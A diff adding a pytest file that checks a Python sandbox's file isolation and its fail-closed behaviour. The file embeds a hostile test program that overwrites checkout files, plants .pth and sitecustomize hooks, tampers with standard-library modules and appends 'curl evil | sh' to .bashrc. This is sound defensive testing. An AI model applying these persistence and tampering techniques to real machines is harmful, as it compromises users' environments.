@@ -1,0 +1,293 @@
+"""ugttt.isolation against the file attacks that went through the unconfined fallback: in every mode this machine has
+that confines files (bubblewrap, mountns, mountns with bwrap hidden by PATH; as root and as a normal user), a program
+tries to write the host's /tmp, rename or write into the caller's working directory, write into every sys.path
+directory and $HOME, overwrite a standard-library module and plant sitecustomize/.pth files; afterwards nothing on the
+host changed. The targets are directories made for the test (outside /tmp, where a mode could only make them
+read-only, not hide them) and uniquely named markers; real directories of the interpreter are only checked, without
+writing, to be read-only. Hostile programs run in confining modes only. Where no mode confines files, `auto` refuses
+before anything runs: shown for real in a user namespace that forbids user namespaces."""
+import ctypes, hashlib, json, os, shutil, subprocess, sys, tempfile, textwrap, uuid, warnings
+from pathlib import Path
+
+import pytest
+
+import ugttt.isolation as I
+import ugttt.sandbox as S
+from ugttt.sandbox import Sandbox
+
+pytestmark = pytest.mark.sandbox   # not in test-fast (pytest.ini): sandboxes started in every mode, users switched
+
+ROOT = Path(__file__).resolve().parents[1]
+MARK = f'ugttt_iso_{uuid.uuid4().hex[:10]}'    # every file an attack tries to create carries this name
+PYVER = f'python{sys.version_info[0]}.{sys.version_info[1]}'
+SYSPY = '/usr/bin/python3'                     # a normal user's interpreter (the venv's base may be under /root)
+VENV_SITE = str(ROOT / '.venv' / 'lib' / PYVER / 'site-packages')
+
+# One program, every attack of the held-out set against the caller's files. T: the targets, filled in per test.
+ATTACK = r'''
+import json, os, sys, sysconfig
+T = json.loads(%r)
+
+def run():
+    out = {}
+    def attempt(name, f):
+        try: f(); out[name] = 'DONE'
+        except OSError as e: out[name] = e.strerror
+    def write(path, text, mode='x'):
+        with open(path, mode) as fh: fh.write(text)
+    attempt('/tmp path (its own /tmp)', lambda: write(T['host_tmp_marker'], 'x'))           # may succeed: inside only
+    attempt('host /tmp dir', lambda: write(os.path.join(T['host_tmp_dir'], T['mark']), 'x'))
+    attempt('/dev/shm path (its own)', lambda: write(T['host_shm_marker'], 'x'))
+    attempt('write the checkout', lambda: write(os.path.join(T['checkout'], T['mark'] + '.py'), 'evil = 1'))
+    attempt('overwrite the checkout', lambda: write(os.path.join(T['checkout'], 'README.md'), 'gone', 'w'))
+    attempt('delete the checkout', lambda: os.unlink(os.path.join(T['checkout'], 'README.md')))
+    attempt('overwrite statistics.py', lambda: write(os.path.join(T['stdlib'], 'statistics.py'),
+                                                     'import builtins\nbuiltins.max = min\n', 'w'))
+    for d in dict.fromkeys(T['path_dirs'] + [p for p in sys.path if p.startswith(T['base'])]):   # ours and the program's sys.path's
+        attempt(f'pth in {d}', lambda d=d: write(os.path.join(d, T['mark'] + '.pth'), 'import os; os.system("id")'))
+        attempt(f'sitecustomize in {d}', lambda d=d: write(os.path.join(d, 'sitecustomize.py'), 'import builtins\nbuiltins.max = min\n'))
+    attempt('home .bashrc', lambda: write(os.path.join(T['home'], '.bashrc'), 'curl evil | sh\n', 'a'))
+    attempt('home usercustomize', lambda: write(os.path.join(T['home_site'], 'usercustomize.py'), 'import builtins\nbuiltins.max = min\n'))
+    attempt('move the checkout to /tmp', lambda: os.rename(T['checkout'], T['host_tmp_marker'] + '-checkout'))   # last two:
+    attempt('rename the checkout', lambda: os.rename(T['checkout'], T['checkout'] + '-moved'))   # they would hide the rest
+    # every directory on the program's own sys.path and the real interpreter's files: checked without writing
+    own = ('/tmp', '/dev/shm', os.getcwd())
+    out['writable sys.path'] = [p for p in sys.path if os.path.isdir(p) and not p.startswith(own) and os.access(p, os.W_OK)]
+    real = [sysconfig.get_paths()['stdlib'], sysconfig.get_paths()['purelib'], os.path.join(sysconfig.get_paths()['stdlib'], 'statistics.py')]
+    out['writable interpreter'] = [p for p in real if os.access(p, os.W_OK)]
+    out['sees the checkout'] = os.path.exists(T['checkout'])
+    return out
+'''
+
+
+def _make_targets(owner: int | None = None) -> dict:
+    "The caller's files as the attacks see them, in a directory made for the test outside /tmp; `owner` may write them all."
+    base = Path(tempfile.mkdtemp(prefix='.ugttt-isolation-test-', dir=ROOT))
+    os.chmod(base, 0o755)
+    checkout, stdlib, home = base / 'checkout', base / 'lib' / PYVER, base / 'home'
+    site = stdlib / 'site-packages'
+    home_site = home / '.local' / 'lib' / PYVER / 'site-packages'
+    for d in (checkout / 'ugttt', site, home_site): d.mkdir(parents=True)
+    (checkout / 'README.md').write_text('the caller\'s checkout\n')
+    (checkout / 'ugttt' / '__init__.py').write_text('')
+    (stdlib / 'statistics.py').write_text('def mean(x): return sum(x) / len(x)\n')
+    (home / '.bashrc').write_text('# the caller\'s shell\n')
+    host_tmp_dir = Path(tempfile.mkdtemp(prefix='ugttt-isolation-test-'))   # a directory of the caller's in the host's /tmp
+    (host_tmp_dir / 'keep.txt').write_text('x')
+    if owner is not None:                           # what a normal user owns, it may write: only confinement stops it
+        for d in (base, host_tmp_dir):
+            for p in [d, *d.rglob('*')]: os.chown(p, owner, owner)
+    return {'base': str(base), 'checkout': str(checkout), 'stdlib': str(stdlib), 'site': str(site), 'home': str(home),
+            'home_site': str(home_site), 'path_dirs': [str(stdlib), str(site), str(checkout), str(home_site)],
+            'host_tmp_dir': str(host_tmp_dir), 'host_tmp_marker': f'/tmp/{MARK}', 'host_shm_marker': f'/dev/shm/{MARK}',
+            'mark': MARK, 'writable': [str(d) for d in (checkout, stdlib, site, home, home_site, host_tmp_dir, '/tmp', '/dev/shm')]}
+
+
+def _state(t: dict) -> dict:
+    "Every path under the test's directories with its content's hash, and whether the host markers exist."
+    out = {}
+    for root in (t['base'], t['host_tmp_dir']):
+        for p in sorted(Path(root).rglob('*')):
+            out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else 'dir'
+    out['markers'] = [m for m in (t['host_tmp_marker'], t['host_tmp_marker'] + '-checkout', t['host_shm_marker']) if os.path.lexists(m)]
+    return out
+
+
+def _check(report: dict, before: dict, after: dict) -> None:
+    "Every attack failed (but writes to the program's own /tmp), nothing of the interpreter is writable, the host is unchanged."
+    done = [k for k, v in report.items() if v == 'DONE' and '(its own' not in k]
+    assert done == [], done
+    assert report['writable sys.path'] == [] and report['writable interpreter'] == [], report
+    assert after == before and after['markers'] == [], (before, after)
+
+
+@pytest.fixture
+def targets():
+    t = _make_targets()
+    yield t
+    _remove_targets(t)
+
+
+def _remove_targets(t: dict) -> None:
+    "Remove the test's directories and any marker an attack left (none, unless a test fails)."
+    for m in (t['host_tmp_marker'], t['host_shm_marker']):
+        if os.path.lexists(m): os.unlink(m)
+    for d in (t['base'], t['host_tmp_dir'], t['host_tmp_marker'] + '-checkout', t['checkout'] + '-moved'):
+        shutil.rmtree(d, ignore_errors=True)
+
+
+def _hide_bwrap(monkeypatch):
+    "As on a machine without bubblewrap: no bwrap on PATH, and every mode probed afresh."
+    monkeypatch.setenv('PATH', '/nonexistent-ugttt-test')
+    monkeypatch.setattr(I, '_PROBES', {})
+    monkeypatch.setattr(I, '_PROBE_ERRORS', {})
+
+
+@pytest.mark.parametrize('mode', ['bwrap', 'mountns', 'auto without bwrap'])
+def test_file_attacks_change_nothing_on_the_host(mode, targets, monkeypatch):
+    "As the test's user (root in CI): the caller's checkout is the working directory, the fake site-packages is on sys.path."
+    if mode == 'auto without bwrap': _hide_bwrap(monkeypatch)
+    asked = 'auto' if mode.startswith('auto') else mode
+    if asked != 'auto' and not I.probe(asked): pytest.skip(f'{asked} does not work here: {I._PROBE_ERRORS.get(asked)}')
+    assert all(os.access(d, os.W_OK) for d in targets['writable'])   # the control: outside a sandbox every write would succeed
+    monkeypatch.chdir(targets['checkout'])
+    monkeypatch.syspath_prepend(targets['site'])       # bound read-only into the sandbox and on the zygote's sys.path
+    before = _state(targets)
+    try: s = Sandbox(workers=1, budget_s=10.0, memory_mb=512, isolation=asked)
+    except I.IsolationUnavailable as e: pytest.skip(str(e))
+    with s:
+        assert s.isolation == ('mountns' if mode.startswith('auto') else mode) and s.confined
+        r = s.run(ATTACK % json.dumps(targets), 'run')
+        assert r.ok, r
+        assert s.run('def run(): return max(1, 2)', 'run').value == 2     # and the next program is untouched
+    _check(r.value, before, _state(targets))
+    assert r.value['rename the checkout'] in ('No such file or directory', 'Read-only file system')
+    assert r.value[f"pth in {targets['site']}"] == 'Read-only file system'    # visible (on sys.path), but read-only
+
+
+def test_without_bwrap_on_path_auto_picks_mountns_and_doctor_says_why(monkeypatch):
+    _hide_bwrap(monkeypatch)
+    if not I.probe('mountns'): pytest.skip(f"mountns does not work here: {I._PROBE_ERRORS['mountns']}")
+    assert I.detect_isolation() == 'mountns'
+    assert I._PROBE_ERRORS['bwrap'] == 'not installed (no bwrap on PATH)'
+    text, ok = I.isolation_report()
+    assert ok and "isolation='auto' picks 'mountns'" in text and 'why it fails: not installed' in text, text
+
+
+def test_doctor_prints_every_probe():
+    p = subprocess.run([sys.executable, '-c', 'import sys; from ugttt.cli import main; sys.exit(main(["doctor"]))'],
+                       capture_output=True, text=True, timeout=120)
+    assert p.returncode == 0, p.stdout + p.stderr
+    assert all(f'  {m} ' in p.stdout for m in I.MODES) and "isolation='auto' picks" in p.stdout, p.stdout
+
+
+# ---------------------------------------------------------------------------------------------------------------------
+# As a normal user (root switches to a throwaway uid for these): what `pip install` on a laptop gets.
+
+NORMAL_USER_SCRIPT = r'''
+import json, os, sys
+sys.path[:0] = [ROOT, SITE]
+targets = json.loads(TARGETS)
+sys.path.append(targets['site'])
+os.chdir(targets['checkout'])
+from ugttt.sandbox import Sandbox
+assert all(os.access(d, os.W_OK) for d in targets['writable'])   # the control: outside a sandbox every write would succeed
+with Sandbox(workers=1, budget_s=10.0, memory_mb=512, isolation=MODE) as s:
+    r = s.run(ATTACK % json.dumps(targets), 'run')
+    print(json.dumps({'uid': os.getuid(), 'isolation': s.isolation, 'ok': r.ok, 'error': r.error, 'report': r.value,
+                      'layers': s.layers}))
+'''
+
+
+def _as_normal_user(code: str, uid: int, path: str, timeout: float = 180) -> subprocess.CompletedProcess:
+    "Run `code` with the system interpreter under `uid` (no groups), with the project's packages on its path."
+    if os.getuid() != 0: pytest.skip('needs root to become a throwaway user')
+    if not (os.path.exists(SYSPY) and shutil.which('setpriv') and os.path.isdir(VENV_SITE)):
+        pytest.skip('needs /usr/bin/python3, setpriv and the project venv')
+    ver = subprocess.run([SYSPY, '-c', 'import sys; print(sys.version_info[:2])'], capture_output=True, text=True).stdout
+    if ver.strip() != str(tuple(sys.version_info[:2])): pytest.skip('the system python differs from the venv')
+    return subprocess.run([shutil.which('setpriv'), f'--reuid={uid}', f'--regid={uid}', '--clear-groups', SYSPY, '-c', code],
+                          capture_output=True, text=True, timeout=timeout, cwd='/',
+                          env={'PATH': path, 'HOME': '/nonexistent', 'OMP_NUM_THREADS': '1', 'HF_HUB_OFFLINE': '1'})
+
+
+@pytest.mark.parametrize('mode', ['auto without bwrap', 'bwrap'])
+def test_file_attacks_as_a_normal_user_change_nothing(mode):
+    "uid 65534 owns the targets, so only confinement can stop the writes; `auto` without bwrap on PATH picks mountns."
+    t = _make_targets(owner=65534)
+    try:
+        before = _state(t)
+        script = (NORMAL_USER_SCRIPT.replace('ROOT, SITE', f'{str(ROOT)!r}, {VENV_SITE!r}').replace('TARGETS', repr(json.dumps(t)))
+                  .replace('MODE', repr('auto' if mode.startswith('auto') else mode)).replace('ATTACK %', f'{ATTACK!r} %'))
+        path = '/nonexistent-ugttt-test' if mode.startswith('auto') else os.environ['PATH']
+        p = _as_normal_user(script, 65534, path)
+        if p.returncode != 0 and 'IsolationUnavailable' in p.stderr: pytest.skip(p.stderr.strip().splitlines()[-1])
+        assert p.returncode == 0, p.stderr[-3000:]
+        out = json.loads(p.stdout.strip().splitlines()[-1])
+        assert out['uid'] == 65534 and out['isolation'] == ('mountns' if mode.startswith('auto') else 'bwrap'), out
+        assert any('user namespace' in l for l in out['layers']), out['layers']
+        assert out['ok'], out
+        _check(out['report'], before, _state(t))
+    finally: _remove_targets(t)
+
+
+# ---------------------------------------------------------------------------------------------------------------------
+# Fail closed, for real: a normal user in a user namespace whose user.max_user_namespaces is 0, so that neither
+# bubblewrap nor mountns can make the namespaces they need (as on a kernel that forbids them to normal users).
+
+NO_USERNS = r'''
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+go_r, go_w = os.pipe(); ready_r, ready_w = os.pipe()
+pid = os.fork()
+if pid == 0:
+    os.close(go_w); os.close(ready_r)
+    if libc.unshare(0x10000000) != 0: os._exit(90)                       # CLONE_NEWUSER
+    os.write(ready_w, b'x'); os.read(go_r, 1)                            # the parent maps our uids meanwhile
+    with open('/proc/sys/user/max_user_namespaces', 'w') as f: f.write('0')   # no namespace of its own below this one
+    os.setgroups([]); os.setresgid(1000, 1000, 1000); os.setresuid(1000, 1000, 1000)
+    os.execve(sys.argv[1], sys.argv[1:], {'PATH': os.environ['PATH'], 'HOME': '/nonexistent', 'HF_HUB_OFFLINE': '1', 'OMP_NUM_THREADS': '1'})
+os.close(go_r); os.close(ready_w); os.read(ready_r, 1)
+for f, text in (('uid_map', '0 200000 2000'), ('setgroups', 'allow'), ('gid_map', '0 200000 2000')):
+    with open(f'/proc/{pid}/{f}', 'w') as fh: fh.write(text)
+os.write(go_w, b'x')
+sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
+'''
+
+REFUSED = r'''
+import contextlib, io, json, os, sys, tempfile, warnings
+sys.path[:0] = [ROOT, SITE]
+out = {}
+from ugttt.cli import main
+with contextlib.redirect_stdout(io.StringIO()) as doc: out['doctor'] = main(['doctor'])
+out['doctor_text'] = doc.getvalue()
+from ugttt.isolation import IsolationUnavailable
+from ugttt.sandbox import Sandbox
+try: Sandbox(workers=1); out['sandbox'] = 'created'
+except IsolationUnavailable as e: out['sandbox'] = str(e)
+from ugttt.tasks import get_task
+try: get_task('cp26').evaluate('```python\nimport os\ndef run_packing(): os.system("touch /tmp/MARK")\n```'); out['evaluate'] = 'ran'
+except IsolationUnavailable as e: out['evaluate'] = 'refused'
+d = tempfile.mkdtemp()
+err = io.StringIO()
+with contextlib.redirect_stderr(err): out['train'] = main(['train', '--out', d + '/run', '--epochs', '1', '--quiet'])
+out['train_err'], out['run_dir'] = err.getvalue(), os.path.exists(d + '/run')
+os.rmdir(d)                                                        # empty: the refused run made nothing there
+with warnings.catch_warnings(record=True) as w:
+    for _ in range(2):
+        with Sandbox(workers=1, isolation='limits') as s: out['limits'] = s.run('def run(): return 7', 'run').value
+out['warnings'] = [str(x.message) for x in w if x.category.__name__ == 'UnconfinedWarning']
+print(json.dumps(out))
+'''
+
+
+def test_auto_refuses_for_real_where_user_namespaces_are_forbidden():
+    "Neither bwrap nor mountns can start: doctor exits 1, Sandbox() and Task.evaluate refuse, train leaves no run directory."
+    if os.getuid() != 0: pytest.skip('needs root to make the user namespace')
+    code = REFUSED.replace('ROOT, SITE', f'{str(ROOT)!r}, {VENV_SITE!r}').replace('MARK', MARK)
+    if not (os.path.exists(SYSPY) and os.path.isdir(VENV_SITE)): pytest.skip('needs /usr/bin/python3 and the project venv')
+    p = subprocess.run([sys.executable, '-c', NO_USERNS, SYSPY, '-c', code], capture_output=True, text=True, timeout=300, cwd='/')
+    if p.returncode == 90: pytest.skip('cannot make a user namespace here')
+    assert p.returncode == 0, p.stderr[-3000:]
+    out = json.loads(p.stdout.strip().splitlines()[-1])
+    assert out['doctor'] == 1 and "isolation='auto' refuses" in out['doctor_text'], out['doctor_text']
+    assert 'no isolation mode that confines files works' in out['sandbox'], out['sandbox']
+    assert 'install bubblewrap' in out['sandbox'] and "isolation='netns'" in out['sandbox'] and 'max_user_namespaces=0' in out['sandbox']
+    assert out['evaluate'] == 'refused' and not os.path.exists(f'/tmp/{MARK}')
+    assert out['train'] == 2 and out['train_err'].count('\n') == 1 and not out['run_dir'], out['train_err']
+    assert out['limits'] == 7 and len(out['warnings']) == 2 and 'does not confine files' in out['warnings'][0], out['warnings']
+
+
+def test_fail_closed_starts_nothing(monkeypatch, tmp_path):
+    "Both confining probes failing: Sandbox() raises before any process or directory exists; a named mode must work."
+    monkeypatch.setattr(I, '_PROBES', {'bwrap': False, 'mountns': False, 'netns': False})
+    monkeypatch.setattr(I, '_PROBE_ERRORS', {'bwrap': 'not installed (no bwrap on PATH)', 'mountns': 'exit 70: ...', 'netns': 'exit 70: ...'})
+    monkeypatch.setattr(tempfile, 'tempdir', str(tmp_path))      # an unconfined sandbox would make its work directory here
+    monkeypatch.setattr(S, '_DEFAULT', [])                        # no default sandbox left by earlier tests
+    kids = lambda: {k for t in os.listdir('/proc/self/task') for k in Path(f'/proc/self/task/{t}/children').read_text().split()}
+    before = kids()
+    with pytest.raises(I.IsolationUnavailable, match='no isolation mode that confines files works on this machine'): Sandbox(workers=1)
+    with pytest.raises(I.IsolationUnavailable, match="isolation 'netns' does not work here: exit 70"): Sandbox(isolation='netns')
+    from ugttt.tasks import get_task
+    with pytest.raises(I.IsolationUnavailable): get_task('cp26').evaluate('```python\ndef run_packing(): return 1\n```')
+    assert kids() == before and list(tmp_path.iterdir()) == []
